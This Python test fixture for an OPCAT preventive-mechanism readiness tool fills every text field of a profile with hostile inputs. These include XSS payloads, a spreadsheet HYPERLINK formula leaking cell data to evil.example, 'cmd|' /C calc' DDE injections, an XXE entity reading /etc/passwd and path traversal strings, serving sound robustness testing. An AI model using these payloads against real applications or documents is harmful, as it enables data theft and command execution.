"""Texts of a stranger who wants to reach into a report, and a profile that has one of them wherever it can hold a text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

from npm_readiness import Profile
from npm_readiness.loading.catalogue import default_catalogue
from npm_readiness.models.bodies import Npm
from npm_readiness.models.checklist import Question
from npm_readiness.models.profile import Evidence, GivenAnswer, Source
from npm_readiness.models.recommendations import Recommendation
from npm_readiness.models.vocabulary import Answer, Shows

__all__ = ["HOSTILE_TEXTS", "LONGEST", "accepted", "hostile_profile"]

LONGEST = 10_000
"""The most characters that a text of a profile may have."""

CLOSING = "'\">]]></style></script></textarea></title></template></noscript></svg></table>-->"

HOSTILE_TEXTS: dict[str, str] = {
    "script element": f"{CLOSING}<script>document.title='pwned'</script><ScRiPt src=//evil.example/x.js></sCrIpT>",
    "event handlers": "\"><img src=x onerror=document.title='pwned'> ' autofocus onfocus=document.title='pwned' x='",
    "javascript link": "javascript:document.title='pwned'//[a](javascript:document.title='pwned')<a href=javascript:alert(1)>",
    "split javascript link": "java\tscript:alert(1) jav&#x09;ascript:alert(1) JaVaScRiPt&colon;alert(1) vbscript:msgbox(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== [d](data:text/html,<script>alert(1)</script>)",
    "svg onload": f"{CLOSING}<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\"></svg>",
    "foreign objects": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x><base href=//evil.example>",
    "meta and form": "<meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><button>go</button>",
    "style element": (
        f"{CLOSING}<style>*{{display:none!important}}body"
        f"{{background:url(//evil.example/x)}}@import '//evil.example';</style>"
    ),
    "style attribute": '" style="position:fixed;inset:0;background:url(\'https://evil.example/x\')" x="; } * { display: none } /*',
    "template syntax": (
        "{{ 7*7 }} {% for x in (1,2) %}x{% endfor %} "
        "{# c #} ${7*7} #{7*7} <%= 7*7 %> {{ ''.__class__.__mro__ }} %s %(x)s {0}"
    ),
    "text directions": (
        "\u202egnp.exe\u202c \u2066\u2067\u2068\u2069 \u200e\u200f\u061c \u202a\u202b\u202d \u05d0\u05d1 \u0627\u0628"
    ),
    "invisible characters": (
        "pa\u200by\u200cp\u200da\u2060l \ufeff\u00ad\u115f\u3164 "
        "a\u0301\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343\u036a"
    ),
    "terminal escapes": (
        "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x\x9b31m\x9d0;t\x9c \x08\x08\x7f \r over"
    ),
    "control characters": "null \x00 bell \x07 backspace \x08 unit \x1f delete \x7f next line \x85 end",
    "no characters": "half \ud800 other half \udfff none \ufffe none \uffff far \U0001ffff private \ue000 unassigned \u0378",
    "line breaks": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x0bseven\x0ceight\n\n# nine\n\n---\n",
    "very long word": "W" * 5_000,
    "very long id": "a-" * 2_500 + "z",
    "million characters": "word " * 200_000,
    "astral characters": "\U0001f600\U00020000\U0001f468\u200d\U0001f469\u200d\U0001f467" * 1_500,
    "formula =": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula carriage return": "\r=1+1",
    "formula |": "|calc",
    "formula in braces": "{=SUM(A1:A9)}",
    "wide formula": "＝1+1",
    "spreadsheet escapes": "_x003D_1+1 _x0041_x0042_ _x0000_ _x000D_ _x005F_x0041_",
    "spreadsheet markup": "<r><t>&bad;</t></si><si></r>",
    "page codes": '&P&N&D&G&F&[Picture]&[Path] && &"Arial"&40 &K000000 &A',
    "conditional formats": 'meets" , 1=1, "',
    "markdown": (
        "# h\n* x\n> q\n``` \n`x` **b** _i_ ~~s~~ | a | b |\n|---|---| [l]: https://evil.example "
        "![i](//evil.example/x) <https://evil.example> \\"
    ),
    "entities": "&lt;script&gt; &#60;script&#62; &amp;amp; &unknown; &#0; &#xD800; &quot;",
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x> <![CDATA[ x ]]> ]]> <!-- -- -->",
    "word fields": (
        '<w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText> '
        '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'
    ),
    "closing marks": CLOSING,
    "quotes": "\" ' ` ´ ‘ ’ “ ” « » \\ \\\" \\' &quot; %22 %27",
    "paths": "../../../../etc/passwd file:///etc/passwd \\\\evil.example\\share C:\\x",
    "only blanks and controls": "\u200b\u202e\x01\u2028",
    "json": '"}]} , "score": 1, // \\u0000 </script> __proto__ constructor NaN Infinity 1e999',
}
"""Texts by what they try. Some hold what no profile can; :func:`accepted` says what is left of them then."""

ANSWERS = (Answer.NO, Answer.PARTIAL, Answer.YES, Answer.UNKNOWN, Answer.NOT_APPLICABLE)
CHECKLISTS = ("opcat", "mothers-and-children")
SOURCES = ("plain", "linked", "quoted")
ANSWERS_OF_A_BODY = 10


def accepted(text: str) -> str:
    """The text as far as a profile can hold it: whole characters, 10,000 of them at most, and not blanks alone."""
    whole = "".join(
        "\N{REPLACEMENT CHARACTER}" if "\ud800" <= character <= "\udfff" else character for character in text
    )
    return whole.strip()[:LONGEST].strip() or "\N{REPLACEMENT CHARACTER}"


def hostile_profile(text: str) -> Profile:
    """A profile with this text in every field that holds free text, and with answers of every kind.

    In an address it stands behind ``https://``, since nothing else is accepted there. For the answers the checklists on OPCAT and
    on mothers and children are gone through with ``no``, ``partial``, ``yes``, ``unknown`` and ``not_applicable`` in turn. A text
    of a million characters is cut to what one field accepts; the fields together hold several millions then.
    """
    text = accepted(text)
    source = dict.fromkeys(("title", "publisher", "date", "symbol", "language", "note"), text)
    addresses: dict[str, object] = {
        "plain": None,
        "linked": accepted(f"https://evil.example/{text}"),
        "quoted": accepted(f"mailto:{text}"),
    }
    return Profile(
        country="TKM",
        country_name=text,
        assessed_on="2023-12-14",  # type: ignore[arg-type]  # read as in a file
        assessors=(text, text),
        note=text,
        checklists=CHECKLISTS,
        npm=Npm.model_validate({"bodies": tuple(_bodies(text))}, strict=False),
        sources={
            name: Source.model_validate({**source, "kind": "law", "url": addresses[name]}, strict=False)
            for name in SOURCES
        },
        answers=dict(_answers(text)),
        recommendations=tuple(_recommendations(text)),
    )


def _bodies(text: str) -> Iterator[dict[str, object]]:
    """One that is the mechanism, one that was it, one that is considered beside them."""
    answers = {name: given.model_dump() for name, given in islice(_answers(text), ANSWERS_OF_A_BODY)}
    own = {"id": "own", "name": text, "role": "mechanism", "designated": "2020-01-01", "laws": ("plain",)}
    yield {**own, "answers": answers}
    yield {"id": "before", "name": text, "role": "former", "designated": "2010", "ended": "2019-12", "answers": answers}
    yield {"id": "other", "name": text, "role": "candidate"}


def _recommendations(text: str) -> Iterator[Recommendation]:
    """One that is a finding of the assessors' own, and one that is not."""
    said = dict.fromkeys(("document", "paragraph", "text", "comment"), text)
    for name, adopted in (("adopted-finding", True), ("other-finding", False)):
        yield Recommendation.model_validate(
            {
                **said,
                "id": name,
                "by": "spt",
                "about": ("mechanism-designated", "opcat-18-1"),
                "url": accepted(f"https://evil.example/{text}"),
                "finding": "falls_short",
                "adopted": adopted,
            },
            strict=False,
        )


def _answers(text: str) -> Iterator[tuple[str, GivenAnswer]]:
    turns = zip(cycle(ANSWERS), cycle(SOURCES))
    for (answer, source), question in zip(turns, _questions(), strict=False):
        refused = answer is Answer.NOT_APPLICABLE and question.may_not_apply is None
        given = GivenAnswer(
            answer=None if refused else answer,
            between=(Answer.NO, Answer.PARTIAL) if answer is Answer.UNKNOWN else None,
            evidence=(Evidence(source=source, pinpoint=_place(text), note=text, quote=text, shows=Shows.IN_PLACE),),
            comment=text,
            reason=text,
        )
        yield question.id, given


def _place(text: str) -> str:
    """The text as a place in a source, which has a letter or a digit in it."""
    return text if any(character.isalnum() for character in text) else accepted(f"art. 1 {text}")


def _questions() -> tuple[Question, ...]:
    """The questions of the two checklists that a profile can answer, each once."""
    catalogue = default_catalogue()
    criteria = (criterion for checklist in CHECKLISTS for criterion in catalogue.checklists[checklist].content.criteria)
    asked = {question.id: question for criterion in criteria for question in catalogue.questions_of(criterion)}
    return tuple(question for question in asked.values() if question.answered_by is None)
